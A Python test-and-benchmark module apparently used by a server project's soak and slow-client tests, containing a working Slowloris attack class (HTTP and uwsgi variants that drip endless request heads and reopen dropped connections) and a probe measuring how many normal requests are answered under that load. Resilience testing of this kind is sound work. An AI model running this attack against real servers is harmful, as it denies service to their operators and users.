"""A slow-client attack and a probe, shared by bench/soak.py and the slow-client tests
(tests/slowloris.py imports this module).

    with Slowloris("127.0.0.1", port, 1000, proto="http") as attack:
        result = probe(lambda: ..., count=100)

Slowloris opens N connections and sends their request head one byte at a time, one byte per
connection every `interval` seconds, never finishing it; a connection the server closes is
opened again (an attacker keeps the pressure on). probe() runs normal requests one after the
other while that goes on and reports how many were answered and how fast.
"""

from __future__ import annotations

import socket
import struct
import threading
import time

HTTP_HEAD = b"GET /slow HTTP/1.1\r\nHost: attacker\r\n" + b"X-Slow: " + b"a" * 4000


def uwsgi_head() -> bytes:
    """A uwsgi packet header announcing 4000 bytes of vars, then vars that never end."""
    return struct.pack("<BHB", 0, 4000, 0) + b"\x0e\x00REQUEST_METHOD\x03\x00GET" + b"\x05\x00X_PAD" * 800


class Slowloris:
    def __init__(self, host: str, port: int, count: int, proto: str = "http", interval: float = 0.5):
        self.addr = (host, port)
        self.count = count
        self.head = HTTP_HEAD if proto == "http" else uwsgi_head()
        self.interval = interval
        self.stop = threading.Event()
        self.reopened = 0        # connections the server closed, opened again
        self.open = 0
        self._thread = threading.Thread(target=self._run, daemon=True)

    def __enter__(self) -> "Slowloris":
        self._thread.start()
        deadline = time.monotonic() + 30
        while self.open < self.count and time.monotonic() < deadline:
            time.sleep(0.05)
        return self

    def __exit__(self, *exc) -> None:
        self.stop.set()
        self._thread.join(10)

    def _connect(self):
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex(self.addr)
        return [s, 0]          # socket, bytes of the head sent so far

    def _run(self) -> None:
        conns = []
        try:
            while len(conns) < self.count and not self.stop.is_set():
                conns.append(self._connect())
                self.open = len(conns)
                if len(conns) % 100 == 0:
                    time.sleep(0.01)     # do not overflow the listen backlog all at once
            while not self.stop.is_set():
                started = time.monotonic()
                for i, c in enumerate(conns):
                    s, sent = c
                    try:
                        n = s.send(self.head[sent:sent + 1])
                        c[1] = (sent + n) % len(self.head) or 1
                    except BlockingIOError:
                        pass             # not connected yet
                    except OSError:      # the server closed it: open another
                        s.close()
                        conns[i] = self._connect()
                        self.reopened += 1
                self.stop.wait(max(0.0, self.interval - (time.monotonic() - started)))
        finally:
            for s, _ in conns:
                s.close()


class ProbeResult:
    def __init__(self, latencies: list[float], failures: list[str]):
        self.latencies = sorted(latencies)
        self.failures = failures

    @property
    def answered(self) -> float:
        total = len(self.latencies) + len(self.failures)
        return len(self.latencies) / total if total else 0.0

    def p(self, q: float) -> float:
        if not self.latencies:
            return float("inf")
        return self.latencies[min(len(self.latencies) - 1, int(q * len(self.latencies)))]

    def __repr__(self) -> str:
        return (f"<answered {self.answered:.1%}, p50 {self.p(0.5) * 1000:.1f} ms, p99 {self.p(0.99) * 1000:.1f} ms, "
                f"failures {self.failures[:5]}>")


def probe(request, count: int = 100, pause: float = 0.02, give_up_after: int | None = None,
          until: float | None = None) -> ProbeResult:
    """request() -> True when answered right; run `count` times, one after the other (stopping
    after `give_up_after` failures: the outcome is known by then, or once time.monotonic()
    passes `until`)."""
    latencies, failures = [], []
    for _ in range(count):
        if give_up_after is not None and len(failures) >= give_up_after:
            break
        if until is not None and time.monotonic() >= until:
            break
        t0 = time.monotonic()
        try:
            ok = request()
        except Exception as e:   # noqa: BLE001  (a timeout or a reset is a failure to count)
            ok, why = False, f"{type(e).__name__}: {e}"
        else:
            why = "wrong answer"
        if ok:
            latencies.append(time.monotonic() - t0)
        else:
            failures.append(why)
        time.sleep(pause)
    return ProbeResult(latencies, failures)
